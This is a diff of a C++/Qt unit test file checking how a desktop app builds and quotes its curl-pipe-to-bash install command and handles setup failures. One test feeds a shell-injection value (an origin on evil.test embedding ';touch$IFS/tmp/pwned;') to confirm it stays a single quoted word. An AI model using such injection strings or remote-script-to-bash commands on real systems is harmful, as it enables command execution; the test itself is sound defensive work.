@@ -34,8 +34,9 @@ TEST_F(ServiceControlTest, FirstLaunchInstallsTheCliAndTheService) {
     EXPECT_TRUE(task->isFinished());
     EXPECT_FALSE(s.bootstrapTask());
     EXPECT_EQ(seen, (QList<BootstrapState>{BootstrapState::installing(), BootstrapState::idle()}));
-    EXPECT_EQ(fakes.runner->shellLines(),
-              QStringList{QStringLiteral("curl -fsSL 'https://tovi.test/install.sh' | bash")});
+    EXPECT_EQ(
+        fakes.runner->shellLines(),
+        QStringList{QStringLiteral("set -o pipefail; curl -fsSL 'https://tovi.test/install.sh' | bash")});
     EXPECT_DOUBLE_EQ(fakes.defaults->doubleValue(QStringLiteral("lastCliUpdate")), nowSeconds());
 
     QList<QStringList> expected = historyPass();
@@ -57,14 +58,17 @@ TEST_F(ServiceControlTest, StartUpFailuresEndFailedButStillRefresh) {
     EXPECT_FALSE(fakes.defaults->contains(QStringLiteral("lastCliUpdate")));
 
     // A retry from the setup screen starts over; the script works but leaves no CLI to
-    // find: the task ends quietly idle without touching history or the service.
+    // find: the task fails with the missing-CLI text (so Retry stays offered) without
+    // touching history or the service.
     fakes.runner->clearRecords();
     fakes.runner->replyShell(FakeRunner::ok());
     fakes.setDaemon(DaemonState::stopped());
     QList<BootstrapState> seen;
     QObject::connect(&s, &StatusStore::bootstrapStateChanged, [&] { seen << s.bootstrapState(); });
     s.startBootstrap();
-    EXPECT_EQ(seen, (QList<BootstrapState>{BootstrapState::installing(), BootstrapState::idle()}));
+    EXPECT_EQ(seen,
+              (QList<BootstrapState>{BootstrapState::installing(),
+                                     BootstrapState::failed(QStringLiteral("Couldn't find the tovi CLI."))}));
     EXPECT_EQ(fakes.runner->count(args({"config"})), 0);
     EXPECT_EQ(fakes.runner->count(args({"install"})), 0);
     EXPECT_EQ(fakes.runner->count(statusArguments()), 1);
@@ -106,12 +110,12 @@ TEST_F(ServiceControlTest, StartBootstrapReturnsTheRunningTask) {
 
 TEST_F(ServiceControlTest, InstallAddressIsOneQuotedShellWord) {
     fakes.runner->setInstalled(false);
-    fakes.webOrigin = QStringLiteral("https://evil.test/x';touch /tmp/pwned;'//");
+    fakes.webOrigin = QStringLiteral("https://evil.test/x';touch$IFS/tmp/pwned;'//");
     StatusStore& s = makeStore();
     s.startBootstrap();
     EXPECT_EQ(fakes.runner->shellLines(),
-              QStringList{QStringLiteral(
-                  "curl -fsSL 'https://evil.test/x'\\'';touch /tmp/pwned;'\\''/install.sh' | bash")});
+              QStringList{QStringLiteral("set -o pipefail; curl -fsSL 'https://evil.test/x'\\'';touch$IFS"
+                                         "/tmp/pwned;'\\''/install.sh' | bash")});
 }
 
 TEST_F(ServiceControlTest, AutomaticUpdateRunsOnlyAfterTwelveHours) {
